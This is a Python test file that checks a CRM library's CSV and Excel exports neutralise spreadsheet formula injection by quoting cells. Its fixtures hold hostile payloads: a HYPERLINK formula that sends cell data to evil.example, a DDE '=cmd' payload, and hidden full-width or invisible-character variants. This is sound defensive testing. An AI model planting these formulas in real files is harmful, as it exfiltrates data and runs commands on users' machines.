"""Customer lists opened in Excel never run a formula planted in client data (OWASP CSV injection).

Ids and e-mails that start with = + - @, a tab or a CR go through the real ingest into the
segment exports; every text cell of every CSV and of the workbook must come out starting with a
single quote instead, and nothing else may change.
"""

from __future__ import annotations

import csv

import pandas as pd
import pytest

from crmlib.ingest import ingest_file
from crmlib.safe_cells import neutralise_formulas
from crmlib.segments import write_segment_exports
from crmlib.xlsx import write_xlsx

PLANTED = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(1,2)", "-2+3", "@SUM(A1:A9)",
           "\tTAB=1", "\rCR=1", "=cmd|' /C calc'!A0", "\uff1dHYPERLINK(\"http://evil\")", "\uff0b1+1",
           "\uff20SUM(A1)", "\uff0d1+1"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "\ufeff", "\uff1d", "\uff0b", "\uff0d", "\uff20", " ")


def test_neutralise_formulas_by_hand():
    values = pd.Series(["=1+1", "+x", "-y", "@z", "\tq", "\rr", "ok", "a=b", "'=already", ""], dtype="str")
    assert neutralise_formulas(values).tolist() == [
        "'=1+1", "'+x", "'-y", "'@z", "'\tq", "'\rr", "ok", "a=b", "'=already", ""]


# A sign after whitespace, a control or an invisible character, or a full-width / small sign:
# spreadsheets trim the first and read the second as ASCII on input (issue #19 item 15).
HIDDEN_SIGNS = ["\n=1+1", "\ufeff=1+1", "\uff1d1+1", "\uff0bSUM(1)", "\uff0d2+3", "\uff20SUM(A1)",
                " =1+1", "\u3000=1+1", "\x00=1", "\u200b+1", "\u00a0-1", "\ufe661", "\u22121+1"]
HARMLESS = ["ok", "a=b", "12-345", "\u3000ok", " x", "\ufeffC001", "\uff21\uff22"]


def test_neutralise_formulas_hidden_and_full_width_signs():
    values = pd.Series(HIDDEN_SIGNS + HARMLESS, dtype="str")
    assert neutralise_formulas(values).tolist() == ["'" + v for v in HIDDEN_SIGNS] + HARMLESS


def test_duckdb_lists_quote_the_same_cells_as_pandas():
    """The CSV lists are written by DuckDB with the same pattern (RE2): same cells quoted."""
    import duckdb

    from crmlib.safe_cells import FORMULA_START
    from crmlib.sql import sql_literal

    values = HIDDEN_SIGNS + HARMLESS + PLANTED
    flags = duckdb.connect().execute(
        f"SELECT regexp_matches(x, {sql_literal(FORMULA_START)}) FROM unnest(?) WITH ORDINALITY t(x, i) ORDER BY i",
        [values]).fetchall()
    assert [f[0] for f in flags] == [True] * len(HIDDEN_SIGNS) + [False] * len(HARMLESS) + [True] * len(PLANTED)


@pytest.fixture()
def planted_export(tmp_path):
    rows = []
    for i, cid in enumerate(PLANTED + ["C-normal"]):
        email = f"=1+{i}@example.jp" if i % 2 == 0 else f"u{i}@example.jp"
        rows.append({"order_id": f"O{i}", "customer_id": cid, "email": email,
                     "ordered_at": f"2024-0{1 + i % 9}-10 10:00:00", "amount": 1000 * (i + 1),
                     "product": "=HYPERLINK(\"http://evil\")" if i % 3 == 0 else "煎茶"})
    path = tmp_path / "orders.csv"
    pd.DataFrame(rows).to_csv(path, index=False, quoting=csv.QUOTE_ALL)
    result = ingest_file(path, out_dir=tmp_path / "processed", keep_contacts=True)
    assert result.ledger.kept_rows == len(PLANTED) + 1
    settings = {"exports": {"include_email": True, "schemes": ["rfm", "cpm", "ladder"]}}
    written = write_segment_exports(tmp_path / "processed", "2025-01-01", settings, tmp_path / "exports",
                                    lang="en")
    return result, written


def test_planted_formulas_are_quoted_in_every_csv_cell(planted_export):
    result, written = planted_export
    ids, emails = set(), set()
    for path in [p for p in written if p.suffix == ".csv"]:
        with path.open(encoding="utf-8-sig", newline="") as fh:
            rows = list(csv.reader(fh))
        header = rows[0]
        for row in rows[1:]:
            record = dict(zip(header, row))
            ids.add(record["customer_id"])
            emails.add(record["email"])
            for column, cell in record.items():
                if column not in ("revenue", "recency_days", "r", "f", "m", "purchases", "orders"):
                    assert not cell.startswith(DANGEROUS), (path.name, column, cell)
    # each planted id is listed once per scheme, quoted, otherwise unchanged
    assert {"'" + cid for cid in PLANTED} | {"C-normal"} == ids
    assert {f"'=1+{i}@example.jp" for i in range(0, 8, 2)} <= emails


def test_planted_formulas_are_quoted_in_the_workbook(planted_export):
    import openpyxl

    _, written = planted_export
    book = openpyxl.load_workbook(written[-1], read_only=True)
    seen = set()
    for sheet in book.worksheets:
        rows = list(sheet.iter_rows(values_only=True))
        for row in rows[1:]:
            seen.add(row[0])
            for cell in row:
                assert not (isinstance(cell, str) and cell.startswith(DANGEROUS)), (sheet.title, cell)
    assert {"'" + cid for cid in PLANTED} <= seen


def test_xlsx_writer_quotes_text_but_not_numbers(tmp_path):
    import openpyxl

    frame = pd.DataFrame({"text": ["=1+1", "-5", "ok"], "number": [-5, 3, 0], "real": [-1.5, 2.0, 0.0]})
    book = openpyxl.load_workbook(write_xlsx(tmp_path / "x.xlsx", [("s", frame)]), read_only=True)
    rows = list(book.worksheets[0].iter_rows(values_only=True))
    assert rows[1:] == [("'=1+1", -5, -1.5), ("'-5", 3, 2), ("ok", 0, 0)]


from hypothesis import given  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

LEADING = [" ", "\t", "\n", "\r", "\x00", "\x1f", "\u00a0", "\u200b", "\u3000", "\ufeff", "\u2060"]
SIGNS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\u2212"]


@given(st.lists(st.sampled_from(LEADING), max_size=4), st.sampled_from(SIGNS), st.text(max_size=20))
def test_any_sign_after_invisible_characters_is_quoted(leading, sign, rest):
    value = "".join(leading) + sign + rest
    assert neutralise_formulas(pd.Series([value], dtype="str")).tolist() == ["'" + value]


@given(st.text(min_size=1, max_size=20).filter(lambda s: s[0].isalnum()))
def test_text_starting_with_a_letter_or_digit_is_left_alone(value):
    assert neutralise_formulas(pd.Series([value], dtype="str")).tolist() == [value]
